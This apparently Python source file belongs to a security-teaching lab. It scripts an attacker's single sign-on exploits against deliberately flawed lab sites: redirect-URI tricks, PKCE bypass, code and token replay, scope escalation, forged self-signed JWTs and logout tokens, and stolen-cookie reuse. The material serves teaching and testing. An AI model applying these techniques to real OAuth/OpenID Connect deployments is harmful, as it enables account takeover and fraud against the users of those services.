"""Mallory's attacks on single sign-on. Each succeeds on one flaw, and fails on the secure sites."""

import json
from dataclasses import replace
from urllib.parse import urlencode

from labsrv.kit.lessons.attacks import Outcome, attack
from labsrv.kit.lessons.lab import Lab
from labsrv.labs.sso.mallorys import as_the_club
from labsrv.labs.sso.moves import (
    HER_VERIFIER,
    Claims,
    as_the_shop,
    ask_api,
    authorize_url,
    claims_of,
    code_in_the_log,
    her_name,
    last_logout_token,
    lure,
    redeem,
    signed_by_her,
    tell_the_shop,
    token_for_one_login,
    told,
)
from labsrv.labs.sso.people import (
    is_logged_in,
    join_the_club,
    leave,
    log_in,
    log_out,
    pass_the_providers,
    pay_of,
    raise_pay,
)

RAISED = 9999


# At the provider.


@attack(flaw="compare_the_beginning")
def have_the_code_sent_to_her(lab: Lab) -> Outcome:
    """Send Alice to Tea Identity with an address that begins like the shop's, and leads to Mallory's."""
    shop, mallory = lab.url("shop", ""), lab.url("mallory", "/joined")
    lure(lab, lab.alice, authorize_url(lab, redirect_uri=f"{shop}@{mallory.removeprefix('http://')}"))
    caught = [row["code"] for row in lab.db.mallory_caught.find() if row.get("code")]
    return told(
        bool(caught), "what follows an @ is the host: Alice's code came to Mallory", "nobody is sent to that address"
    )


@attack(flaw="take_none_for_a_challenge")
def leave_the_challenge_out(lab: Lab) -> Outcome:
    """Have Alice open an address without a challenge, and redeem the code that the shop could not use."""
    log_in(lab.alice, lab.shop)
    lure(lab, lab.alice, authorize_url(lab, code_challenge=None, code_challenge_method=None))
    tokens = redeem(lab, code_in_the_log(lab, lab.alice))
    return told(bool(tokens), "code and secret were enough", "no login begins without a challenge")


@attack(flaw="compare_only_what_is_sent")
def leave_the_verifier_out(lab: Lab) -> Outcome:
    """Redeem a code of Alice's out of a log, without a verifier."""
    lab.alice.navigate(lab.shop.login)
    lab.alice.jar.remove("__Host-browser")
    pass_the_providers(lab.alice)
    tokens = redeem(lab, code_in_the_log(lab, lab.alice))
    return told(bool(tokens), "nobody asked for the verifier", "the code is worth nothing without the verifier")


@attack(flaw="let_any_client_redeem")
def redeem_it_as_the_club(lab: Lab) -> Outcome:
    """Have Alice bring the shop a code for a challenge of Mallory's, and redeem it as the tea club."""
    log_in(lab.alice, lab.shop)
    lure(lab, lab.alice, authorize_url(lab))
    code, where = code_in_the_log(lab, lab.alice), lab.url("shop", "/callback")
    tokens = as_the_club(
        lab, grant_type="authorization_code", code=code, redirect_uri=where, code_verifier=HER_VERIFIER
    )
    return told(bool(tokens), "the club has tokens that were for the shop", "the code is the shop's")


@attack(flaw="never_let_codes_grow_old")
def redeem_it_tomorrow(lab: Lab) -> Outcome:
    """Find a code of Alice's in yesterday's log, and redeem it with the shop's secret."""
    log_in(lab.alice, lab.shop)
    lure(lab, lab.alice, authorize_url(lab))
    lab.clock.advance(hours=11)
    tokens = redeem(lab, code_in_the_log(lab, lab.alice), code_verifier=HER_VERIFIER)
    return told(bool(tokens), "yesterday's code works today", "the code was good for a minute")


@attack(flaw="let_it_be_used_again")
def use_the_shops_old_token(lab: Lab) -> Outcome:
    """Use a refresh token of Alice's, out of a backup, that the shop has used since."""
    log_in(lab.alice, lab.shop)
    stolen = str(lab.db.sessions.find()[0]["refresh_token"])
    as_the_shop(lab, grant_type="refresh_token", refresh_token=stolen)
    tokens = as_the_shop(lab, grant_type="refresh_token", refresh_token=stolen)
    return told(
        bool(tokens), "both have tokens now, and nobody notices", "used twice, it ended everything that came of it"
    )


@attack(flaw="give_what_is_asked_for")
def ask_for_more_at_a_refresh(lab: Lab) -> Outcome:
    """Ask for `cancel` at a refresh: Alice has let the club read her orders."""
    tokens = join_the_club(lab.alice, lab)
    asked = "openid offline_access read cancel"
    fresh = as_the_club(lab, grant_type="refresh_token", refresh_token=tokens.get("refresh_token", ""), scope=asked)
    done = ask_api(lab, "POST", "/orders", fresh.get("access_token", "")).status == 200
    return told(done, "Alice's orders are cancelled", "a refresh gives no more than there was")


@attack(flaw="go_wherever_they_say")
def send_them_on_from_logout(lab: Lab) -> Outcome:
    """Send Alice to Tea Identity's own log-out page, with Mallory's page for what comes after."""
    log_in(lab.alice, lab.shop)
    asked = {"client_id": "tea-shop", "post_logout_redirect_uri": f"{lab.sites['mallory'].url}?login"}
    lab.alice.navigate(f"{lab.url('idp', '/oidc/logout')}?{urlencode(asked)}", from_=lab.sites["mallory"].url)
    if any(form.name == "logout" for form in lab.alice.page.forms):
        lab.alice.submit("logout", yes="yes")
    there = lab.alice.page.url.startswith(lab.sites["mallory"].url)
    return told(there, "Alice types her password into what comes next", "nobody is sent on to there")


@attack(flaw="log_out_whoever_comes")
def log_alice_out_by_a_link(lab: Lab) -> Outcome:
    """Send everybody who reads Mallory's page to the log-out address."""
    log_in(lab.alice, lab.shop)
    plan = {"_id": "go", "url": lab.url("idp", "/oidc/logout")}
    lab.db.mallory_plans.replace_one({"_id": "go"}, plan, upsert=True)
    lab.alice.navigate(f"{lab.sites['mallory'].url}go")
    out = not is_logged_in(lab.alice, lab.shop)
    return told(out, "Alice is logged out, everywhere, and has not asked for it", "Alice is asked whether she wants it")


# At the API.


@attack(flaw="take_tokens_for_any_api")
def use_the_clubs_token_for_pay(lab: Lab) -> Outcome:
    """Use the token that Alice gave the club for her orders at the API for pay."""
    token = join_the_club(lab.alice, lab).get("access_token", "")
    answer = ask_api(lab, "GET", "/pay", token)
    read = answer.status == 200 and json.loads(answer.body).get("name") == lab.people["alice"].name.title()
    return told(read, "who may read orders may read everybody's pay", "the token is for another API")


@attack(flaw="decode_without_verifying")
def write_a_token_herself(lab: Lab) -> Outcome:
    """Write a token about Alice, and sign it with a key of her own."""
    known = claims_of(join_the_club(lab.alice, lab).get("access_token", ""))
    forged = signed_by_her(known | {"aud": lab.url("api", "/pay"), "scope": "read edit"}, "at+jwt")
    ask_api(lab, "POST", "/pay", forged, {"employee": her_name(lab), "pay": str(RAISED)})
    return told(pay_of(lab, her_name(lab)) == RAISED, "she has raised her own pay", "the provider has not signed that")


@attack(flaw="find_it_in_the_text")
def find_a_word_in_a_word(lab: Lab) -> Outcome:
    """Have Alice let the club ask for her credit: there is an `edit` in `credit`."""
    token = join_the_club(lab.alice, lab, scope="openid credit", api="/pay").get("access_token", "")
    ask_api(lab, "POST", "/pay", token, {"employee": her_name(lab), "pay": str(RAISED)})
    return told(pay_of(lab, her_name(lab)) == RAISED, "`credit` was enough to edit", "`credit` is another word")


@attack(flaw="ask_nobody_again")
def sit_down_at_her_computer(lab: Lab) -> Outcome:
    """Raise her own pay at Alice's unwatched computer."""
    log_in(lab.alice, lab.hr)
    lab.clock.advance(minutes=9)
    raise_pay(lab.alice, lab.hr, her_name(lab), RAISED)
    return told(pay_of(lab, her_name(lab)) == RAISED, "nobody asked who it was", "Alice has to show that it is her")


@attack(flaw="look_when_the_token_was_made")
def log_in_again_without_a_word(lab: Lab) -> Outcome:
    """Click on "Log in" at Alice's unwatched computer, where Tea Identity still knows her, and raise her own pay."""
    log_in(lab.alice, lab.hr)
    lab.clock.advance(minutes=20)
    log_out(lab.alice, lab.hr)
    lab.alice.navigate(lab.hr.login)
    raise_pay(lab.alice, lab.hr, her_name(lab), RAISED)
    return told(pay_of(lab, her_name(lab)) == RAISED, "a new token is no new login", "Alice logged in too long ago")


# At the shop.


@attack(flaw="forget_the_cookie_only")
def keep_a_copy_of_the_cookie(lab: Lab) -> Outcome:
    """Copy Alice's cookie at a shared computer, and use it after she has logged out everywhere.

    Its browser has forgotten Tea Identity meanwhile, which therefore has no login to end, and tells nobody.
    """
    log_in(lab.alice, lab.shop)
    kept = lab.alice.jar.get("__Host-sid")
    lab.alice.jar.remove("__Host-idp-login")
    leave(lab.alice, lab.shop)
    log_in(lab.mallory, lab.shop)
    own = lab.mallory.jar.get("__Host-sid")
    if kept and own:
        lab.mallory.jar.put(replace(own, value=kept.value))
    works = is_logged_in(lab.mallory, lab.shop, as_=lab.alice)
    return told(works, "the cookie that Alice no longer has still works", "the session behind it has ended")


@attack(flaw="stay_at_the_provider")
def click_on_log_in_after_her(lab: Lab) -> Outcome:
    """Sit down where Alice has logged out everywhere, and click on "Log in"."""
    log_in(lab.alice, lab.shop)
    leave(lab.alice, lab.shop)
    lab.alice.navigate(lab.shop.login)
    works = is_logged_in(lab.alice, lab.shop)
    return told(works, "Tea Identity still knew Alice, and nobody was asked", "Tea Identity asks who it is")


@attack(flaw="take_whatever_it_signs")
def send_another_token_of_hers(lab: Lab) -> Outcome:
    """Send the shop the ID token that Alice's visit to the club has left there."""
    token = join_the_club(lab.alice, lab).get("id_token", "")
    log_in(lab.alice, lab.shop)
    tell_the_shop(lab, token)
    out = not is_logged_in(lab.alice, lab.shop)
    return told(out, "an ID token for the club logs Alice out of the shop", "that is no logout token")


@attack(flaw="believe_what_is_not_signed")
def write_a_logout_token(lab: Lab) -> Outcome:
    """Write a logout token about Alice, whose subject the club knows, and sign it with a key of her own."""
    known = claims_of(join_the_club(lab.alice, lab).get("id_token", ""))
    log_in(lab.alice, lab.shop)
    event: Claims = {"http://schemas.openid.net/event/backchannel-logout": {}}
    claims = {each: known.get(each) for each in ("iss", "sub", "iat", "exp")}
    tell_the_shop(lab, signed_by_her(claims | {"aud": "tea-shop", "jti": "mine", "events": event}, "logout+jwt"))
    out = not is_logged_in(lab.alice, lab.shop)
    return told(out, "Alice is out whenever Mallory likes", "the provider has not signed that")


@attack(flaw="take_it_as_often_as_it_comes", given=("leave",))
def send_it_again(lab: Lab) -> Outcome:
    """Send the shop a logout token out of a proxy's log again, after Alice has logged in anew."""
    log_in(lab.alice, lab.shop)
    leave(lab.alice, lab.shop)
    token = last_logout_token(lab)
    log_in(lab.alice, lab.shop)
    tell_the_shop(lab, token)
    out = not is_logged_in(lab.alice, lab.shop)
    return told(out, "an old token logs Alice out again", "the token came before, and names a login that is over")


@attack(flaw="look_for_the_user_only")
def stay_in_after_the_provider_has_said_no(lab: Lab) -> Outcome:
    """Stay in a session whose login the provider has ended, in a token that names the login and nobody."""
    log_in(lab.mallory, lab.shop)
    tell_the_shop(lab, token_for_one_login(lab))
    works = is_logged_in(lab.mallory, lab.shop)
    return told(works, "the shop found no user in it, and ended nothing", "the login in it was found")
